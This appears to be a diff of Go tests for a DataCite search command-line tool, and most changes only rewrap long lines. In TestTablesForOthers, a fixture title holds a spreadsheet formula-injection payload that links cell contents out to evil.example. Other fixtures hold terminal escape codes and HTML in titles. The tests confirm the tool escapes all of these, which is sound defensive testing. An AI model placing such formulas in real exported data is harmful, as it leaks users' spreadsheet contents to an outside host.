@@ -24,7 +24,8 @@ func service(t *testing.T) *datacitetest.Server {
 			"creators":[{"name":"Lovelace, Ada"},{"name":"Hopper, Grace"}],"types":{"resourceTypeGeneral":"Dataset"},"publisher":"Ice Archive"}`,
 		`{"doi":"10.5072/area","created":"2021-01-01","publicationYear":2021,"citationCount":8,"titles":[{"title":"Glacier area, \"raw\""}],
 			"types":{"resourceTypeGeneral":"Dataset"}}`,
-		`{"doi":"10.5072/evil","created":"2022-01-01","titles":[{"title":"Red \u001b[31m\nalert"}],"types":{"resourceTypeGeneral":"Software"}}`,
+		`{"doi":"10.5072/evil","created":"2022-01-01","titles":[{"title":"Red ` +
+			`\u001b[31m\nalert"}],"types":{"resourceTypeGeneral":"Software"}}`,
 	} {
 		require.NoError(t, srv.PutRecordJSON([]byte(record)))
 	}
@@ -69,7 +70,8 @@ func TestJSONLines(t *testing.T) {
 func TestPage(t *testing.T) {
 	srv := service(t)
 	for i := range 600 {
-		require.NoError(t, srv.PutRecordJSON(fmt.Appendf(nil, `{"doi":"10.5072/n%d","publicationYear":%d,"titles":[{"title":"<b>Snow %[1]d</b>"}],
+		require.NoError(t, srv.PutRecordJSON(fmt.Appendf(nil,
+			`{"doi":"10.5072/n%d","publicationYear":%d,"titles":[{"title":"<b>Snow %[1]d</b>"}],
 			"creators":[{"name":"A"},{"name":"B"},{"name":"C"},{"name":"D"}],"types":{"resourceTypeGeneral":"Image"},"rightsList":[{"rights":"CC","rightsIdentifier":"cc-by-4.0"}]}`, i, 1990+i%25)))
 	}
 	folder := t.TempDir()
@@ -81,9 +83,12 @@ func TestPage(t *testing.T) {
 		assert.Contains(t, notes, html+" is written\n")
 		page := read()
 		for _, part := range []string{
-			"<h1>prefix 10.5072</h1>", "603 records at <b>127.0.0.1", `<th scope="row" class="value">Image</th><td class="n">600</td><td class="n">over 99 %</td>`,
-			`<th scope="row" class="value">cc-by-4.0</th><td class="n">600</td>`, `<th scope="row" class="value">(none)</th><td class="n">3</td>`,
-			`<th scope="row" class="value">2014</th><td class="n">24</td>`, `<th scope="row" class="value">(others)</th><td class="n">169</td>`,
+			"<h1>prefix 10.5072</h1>", "603 records at <b>127.0.0.1",
+			`<th scope="row" class="value">Image</th><td class="n">600</td><td class="n">over 99 %</td>`,
+			`<th scope="row" class="value">cc-by-4.0</th><td ` +
+				`class="n">600</td>`, `<th scope="row" class="value">(none)</th><td class="n">3</td>`,
+			`<th scope="row" class="value">2014</th><td class="n">` +
+				`24</td>`, `<th scope="row" class="value">(others)</th><td class="n">169</td>`,
 			"The first 500 are shown", "&lt;b&gt;Snow 1&lt;/b&gt;", "A; B; C; and others",
 		} {
 			assert.Contains(t, page, part, format)
@@ -96,7 +101,8 @@ func TestPage(t *testing.T) {
 	assert.Contains(t, read(), "This page has 1 of them; with --all, it has all.")
 	_, _, _ = find(t, srv, "nothing-has-this", "--html", html)
 	assert.Contains(t, read(), "<h1>nothing-has-this</h1> <p class=\"soft\">0 records at")
-	for _, args := range [][]string{{"--html", "-"}, {"--html", filepath.Join(folder, "x"), "--output", filepath.Join(folder, "x")}, {"--html", folder}} {
+	for _, args := range [][]string{{"--html", "-"},
+		{"--html", filepath.Join(folder, "x"), "--output", filepath.Join(folder, "x")}, {"--html", folder}} {
 		code, _, notes := find(t, srv, args...)
 		assert.Equal(t, 2, code, notes)
 	}
@@ -117,10 +123,14 @@ func TestFlagsAfterTheQuery(t *testing.T) {
 // opens one.
 func TestTablesForOthers(t *testing.T) {
 	srv := service(t)
-	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Love, Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
+	require.NoError(t, srv.PutRecordJSON(
+		[]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,`+
+			`"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Love, `+
+			`Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
 	_, out, notes := find(t, srv, "--format", "csv", "--query", "doi:*formula")
 	assert.Contains(t, out, `"'=HYPERLINK(""https://evil.example/?""&A1)"`)
-	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in front")
+	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in "+
+		"front")
 	for _, name := range []string{"a.csv", "a.XLSX"} {
 		path := filepath.Join(t.TempDir(), name)
 		code, out, notes := find(t, srv, "--query", "doi:*formula", "-o", path)
@@ -129,7 +139,8 @@ func TestTablesForOthers(t *testing.T) {
 		file, err := os.Open(path)
 		require.NoError(t, err)
 		defer file.Close()
-		r, err := table.NewReader(name, file, &table.Options{Others: []string{"citations", "views", "downloads"}, Partial: true})
+		r, err := table.NewReader(name, file,
+			&table.Options{Others: []string{"citations", "views", "downloads"}, Partial: true})
 		require.NoError(t, err)
 		for row, err := range r.All() {
 			require.NoError(t, err)
@@ -142,7 +153,8 @@ func TestTablesForOthers(t *testing.T) {
 // A file has those of the further columns that a record needs, and standard output all.
 func TestColumnsOfAFile(t *testing.T) {
 	srv := service(t)
-	common := "\ufeffdoi,url,state,title,creators,publisher,year,type,description,subjects,rights,language,related identifiers,dates,"
+	common := "\ufeffdoi,url,state,title,creators,publisher,year,type,description,subjects,rights,language,related " +
+		"identifiers,dates,"
 	temporary := t.TempDir()
 	shelltest.SetTemp(t, temporary)
 	head := func(query string, ending string) string {
@@ -153,7 +165,8 @@ func TestColumnsOfAFile(t *testing.T) {
 		return strings.TrimSpace(first)
 	}
 	assert.Equal(t, common+"citations,views,downloads", head("glacier", ".csv"))
-	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/more","titles":[{"title":"Glacier"}],"version":"2","formats":["text/csv"]}`)))
+	require.NoError(t, srv.PutRecordJSON(
+		[]byte(`{"doi":"10.5072/more","titles":[{"title":"Glacier"}],"version":"2","formats":["text/csv"]}`)))
 	assert.Equal(t, common+"version,formats,citations,views,downloads", head("glacier", ".csv"))
 	_, out, _ := find(t, srv, "--query", "glacier", "--format", "csv")
 	assert.Contains(t, out, ",dates,contributors,funding,places,version,sizes,formats,alternate identifiers,citations,")
@@ -195,15 +208,18 @@ func TestWords(t *testing.T) {
 
 func TestQueries(t *testing.T) {
 	srv := service(t)
-	for text, want := range map[string]int{"length area": 0, "length OR area": 2, "glacier -area": 1, "titles.title:glac*": 2, "doi:10.5072/are*": 1} {
+	for text, want := range map[string]int{"length area": 0, "length OR area": 2, "glacier -area": 1,
+		"titles.title:glac*": 2, "doi:10.5072/are*": 1} {
 		_, out, _ := find(t, srv, "--json", "--query", text)
 		assert.Equal(t, want, strings.Count(out, "\n"), text)
 	}
-	for _, name := range []string{"dataset", "Dataset", "journal-article,dataset", "JournalArticle,Dataset"} { // as in the schema, and as in the service
+	// as in the schema, and as in the service
+	for _, name := range []string{"dataset", "Dataset", "journal-article,dataset", "JournalArticle,Dataset"} {
 		_, out, notes := find(t, srv, "--type", name, "--json")
 		assert.Equal(t, 2, strings.Count(out, "\n"), "%s: %s", name, notes)
 	}
-	for args, sort := range map[string]string{"glacier": "relevance", "glacier --sort title": "title", "--sort -view-count": "-view-count", "--type software": "", "--all glacier": ""} {
+	for args, sort := range map[string]string{"glacier": "relevance", "glacier --sort title": "title",
+		"--sort -view-count": "-view-count", "--type software": "", "--all glacier": ""} {
 		before := len(srv.Requests())
 		find(t, srv, strings.Fields(args)...)
 		assert.Equal(t, sort, srv.Requests()[before].URL.Query().Get("sort"), args)
@@ -218,16 +234,19 @@ func TestStatesAndMonths(t *testing.T) {
 		srv := shelltest.Serve(t, &datacitetest.Options{Behaviour: b})
 		for name, member := range map[string]string{
 			"a": `"created":"2026-01-01T00:00:00Z","state":"draft"`, "b": `"created":"2026-01-31T23:59:59Z","state":"draft"`,
-			"c": `"created":"2026-02-01T00:00:00Z","state":"draft"`, "d": `"created":"2026-01-15","state":"registered"`, "e": `"created":"2026-01-15"`,
+			"c": `"created":"2026-02-01T00:00:00Z","state":"draft"`, "d": `"created":"2026-01-15",` +
+				`"state":"registered"`, "e": `"created":"2026-01-15"`,
 		} {
 			require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/`+name+`",`+member+`}`)))
 		}
 		for args, want := range map[string]string{
-			"--state draft": "a b c", "--state draft,registered": "a b c d", "--state findable": "e", "--state draft --created 2026-01": "a b",
-			"--created 2026-01": "a b d e", "--created 2026-01-15 --state registered": "d", "--created 2026-02-01": "c", "--created 2026": "a b c d e",
+			"--state draft": "a b c", "--state draft,registered": "a b c d", "--state findable": "e",
+			"--state draft --created 2026-01": "a b",
+			"--created 2026-01":               "a b d e", "--created 2026-01-15 --state registered": "d", "--created 2026-02-01": "c", "--created 2026": "a b c d e",
 			"--state draft --limit 1": "?",
 		} {
-			code, out, notes := shelltest.At(srv).Do(t, search.Command, append([]string{"search", "--format", "doi"}, strings.Fields(args)...)...)
+			code, out, notes := shelltest.At(srv).Do(t, search.Command,
+				append([]string{"search", "--format", "doi"}, strings.Fields(args)...)...)
 			require.Zero(t, code, notes)
 			names := strings.Fields(strings.ReplaceAll(out, "10.5072/", ""))
 			if want == "?" {
@@ -266,7 +285,8 @@ func TestFaults(t *testing.T) {
 		code int
 		says string
 	}{
-		{[]string{"--format", "xml"}, 2, `--format: "xml" is not one of table, csv, xlsx, json, doi; "datacite search --help" shows the flags`},
+		{[]string{"--format", "xml"}, 2,
+			`--format: "xml" is not one of table, csv, xlsx, json, doi; "datacite search --help" shows the flags`},
 		{[]string{"--query", `ice "open`}, 2, "\n  ice \"open\n      ^"},
 		{[]string{"\U0001f600 ?!"}, 2, "can be searched: it has no letter and no digit"},
 		{[]string{"--limit", "1001"}, 2, "--limit is 1001, not between 1 and 1000; --all prints all records"},
